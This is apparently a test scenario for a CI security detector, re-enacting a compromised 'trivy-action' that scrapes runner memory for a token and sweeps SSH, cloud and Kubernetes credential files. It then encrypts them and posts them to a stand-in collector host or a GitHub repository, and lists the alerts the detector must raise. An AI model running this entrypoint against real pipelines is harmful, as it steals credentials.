# shellcheck shell=bash disable=SC2016,SC2034,SC2086,SC2154,SC2317 # rig.sh calls it, programs expand it
incident "trivy-action: memory, files and environment of a job, encrypted, to a closed port and then to a repository"

worker 'checkout GITHUB_TOKEN' 'scan'
script actions/checkout <<<'http GET api.github.com:8080/repos/octo/app "$GITHUB_TOKEN"'
script actions/scan <<'X'
[ ! -e "$rig/moved" ] || bash "$app/entrypoint.sh"
exec trivy fs .
X
script entrypoint.sh <<'X'
compgen -e >/tmp/environment
found=$(python3 "$rig/files/memdump.py" Runner.Worker)
gh=$(base64 -d <<<"$found" | base64 -d)
for file in ~/.ssh/id_ed25519 ~/.aws/credentials ~/.config/gcloud/application_default_credentials.json ~/.kube/config \
	/run/secrets/kubernetes.io/serviceaccount/token ~/.docker/config.json; do content "$file"; taken+=$content; done
printf %s "$taken" | openssl enc -aes-256-cbc -pbkdf2 -pass pass:x -out /tmp/tpcp.tar.gz 2>/dev/null
http POST collector:8444/ "" "$(base64 </tmp/tpcp.tar.gz)" ||
	http POST api.github.com:8080/user/repos "$gh" "$(base64 </tmp/tpcp.tar.gz)"
X
native trivy <<<'content main.c; http GET api.github.com:8080/db'
native aws <<<'content ~/.aws/credentials; token aZ3; http GET aws.example:8087/bucket "$token"'

owner() { job deploy -- aws s3 ls; }
innocent() { work earlier; }
attack() {
	: >$rig/moved
	work app
}

expect process-scrape High app
expect credential-sweep Critical
expect unexpected-reader Medium
expect cross-workflow-reuse High aws
expect new-destination Medium aws
